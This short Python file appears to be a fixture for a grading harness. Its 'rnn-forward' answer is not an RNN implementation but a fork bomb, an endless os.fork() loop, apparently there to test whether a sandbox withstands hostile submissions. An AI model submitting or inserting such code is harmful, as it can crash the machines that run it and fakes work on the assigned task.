"""Fork without end."""

ANSWERS = {
    "rnn-forward": """\
import os


def rnn_forward(xs, h0, W_xh, W_hh, b_h):
    while True:
        os.fork()
""",
}
REST = "reference"
POINTS = {"rnn-step": 4, "rnn-parameters": 5, "rnn-flops": 5}
